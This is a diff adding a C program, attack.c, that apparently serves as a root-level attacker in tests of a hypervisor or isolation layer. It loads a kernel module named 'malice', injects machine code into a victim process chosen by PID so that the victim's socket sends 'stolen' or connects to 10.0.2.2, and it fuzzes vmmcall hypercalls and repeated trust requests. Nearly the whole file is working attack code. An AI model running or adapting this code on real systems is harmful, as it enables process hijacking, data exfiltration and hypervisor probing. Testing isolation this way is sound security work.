@@ -1,0 +1,127 @@
+/* Loads the kernel module `malice` (`load FILE`), asks it for one attack and prints what came of it;
+   makes the hypercalls of ring 3 itself. Runs untrusted, as root.
+
+   cc -O2 -static attack.c; run with GLIBC_TUNABLES=glibc.pthread.rseq=0, since the kernel writes
+   there while other address spaces are loaded. */
+#define _GNU_SOURCE
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <ucontext.h>
+#include <unistd.h>
+#include "malice.h"
+
+enum { TEXT_AT = 448, ADDRESS_AT = 480 };
+#define TRUST 0x5452415000000001UL
+
+static const unsigned char SYSCALL[] = {0x0f, 0x05}, VMMCALL[] = {0x0f, 0x01, 0xd9};
+static int device;
+
+static long ask(const struct request *request) {
+    long result;
+    __asm__ volatile("syscall"
+                     : "=a"(result)
+                     : "a"(SYS_write), "D"((long)device), "S"(request), "d"(sizeof *request)
+                     : "rcx", "r11", "memory");
+    return result;
+}
+
+static unsigned char *put(unsigned char *at, const void *bytes, int length) {
+    memcpy(at, bytes, length);
+    return at + length;
+}
+
+/* mov register, imm64 */
+static unsigned char *load(unsigned char *at, unsigned char code, unsigned long value) {
+    *at++ = 0x48;
+    *at++ = code;
+    return put(at, &value, 8);
+}
+
+enum { RAX = 0xb8, RDX = 0xba, RSI = 0xbe, RDI = 0xbf, STORE_RAX = 0xa3 };
+
+/* Code that makes one call, and tells the module what it answered. */
+static void write_code(struct request *request, const unsigned char *how, int length, const unsigned long call[4]) {
+    static const unsigned char clear[] = {0x4d, 0x31, 0xd2, 0x4d, 0x31, 0xc0, 0x4d, 0x31, 0xc9};
+    unsigned char *at = request->code;
+    at = load(load(load(load(at, RAX, call[0]), RDI, call[1]), RSI, call[2]), RDX, call[3]);
+    at = put(put(at, clear, sizeof clear), how, length);
+    at = load(at, STORE_RAX, RIDE_AT + RIDE_DONE + 8);
+    at = load(load(at, RAX, SYS_write), RDI, device);
+    at = load(load(at, RSI, RIDE_AT + RIDE_DONE), RDX, sizeof *request);
+    put(put(at, SYSCALL, 2), "\xeb\xfe", 2);
+}
+
+/* A call on a socket with foreign code: the program's connection, or an own socket. */
+static long ride(int mode, int pid, int fd, int port) {
+    struct request request = {.what = RIDE, .pid = pid, .a = mode};
+    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr("10.0.2.2")};
+    unsigned long send[4] = {SYS_sendto, fd, RIDE_AT + TEXT_AT, 7};
+    unsigned long connect[4] = {SYS_connect, fd, RIDE_AT + ADDRESS_AT, sizeof to};
+    write_code(&request, SYSCALL, 2, port ? connect : send);
+    memcpy(request.code + TEXT_AT, "stolen\n", 7);
+    memcpy(request.code + ADDRESS_AT, &to, sizeof to);
+    return ask(&request);
+}
+
+/* Asks to be trusted, each time with another page-table root; answers how often that was granted. */
+static long many(int count) {
+    long granted = 0;
+    struct request request = {.what = RIDE, .a = OWN};
+    write_code(&request, VMMCALL, 3, (unsigned long[4]){TRUST});
+    for (int n = 0; n < count; n++) granted += ask(&request) == 0;
+    return granted;
+}
+
+static void step_over(int signal, siginfo_t *info, void *context) {
+    (void)signal, (void)info;
+    ((ucontext_t *)context)->uc_mcontext.gregs[REG_RIP] += sizeof VMMCALL;
+}
+
+/* Answers how many numbers were answered. */
+static long hypercalls(void) {
+    struct sigaction action = {.sa_sigaction = step_over, .sa_flags = SA_SIGINFO};
+    long answered = 0;
+    sigaction(SIGILL, &action, NULL);
+    for (unsigned long n = 0; n < 4096; n++) {
+        unsigned long number = n < 2048 ? TRUST - 1 + n / 16 : (unsigned long)random() << 33 ^ random(), result = number;
+        __asm__ volatile("vmmcall"
+                         : "+a"(result)
+                         : "D"(n & 2 ? RIDE_AT : random()), "S"(random()), "d"(n & 1 ? -1UL : n)
+                         : "memory");
+        answered += result != number;
+    }
+    return answered;
+}
+
+int main(int count, char **words) {
+    long number[6] = {0};
+    for (int n = 2; n < count && n < 7; n++) number[n - 1] = strtol(words[n], NULL, 0);
+    if (count > 2 && !strcmp(words[1], "load")) {
+        int failed = syscall(SYS_finit_module, open(words[2], O_RDONLY), "", 0);
+        if (failed) perror(words[2]);
+        return failed != 0;
+    }
+    /* A number that no victim has. */
+    device = fcntl(open("/proc/malice", O_WRONLY), F_DUPFD, 900);
+    if (count < 2 || device < 0) return 1;
+    long result;
+    if (!strcmp(words[1], "hypercalls")) {
+        result = hypercalls();
+    } else if (!strcmp(words[1], "many")) {
+        result = many(number[1]);
+    } else if (!strcmp(words[1], "ride")) {
+        /* ride MODE PID FD sends; ride MODE PID FD PORT connects a socket of its own of that number */
+        if (number[4]) dup2(socket(AF_INET, SOCK_STREAM, 0), number[3]);
+        result = ride(number[1], number[2], number[3], number[4]);
+    } else {
+        struct request request = {.what = number[1], .pid = number[2], .a = number[3]};
+        result = ask(&request);
+    }
+    printf("%ld\n", result);
+    return 0;
+}
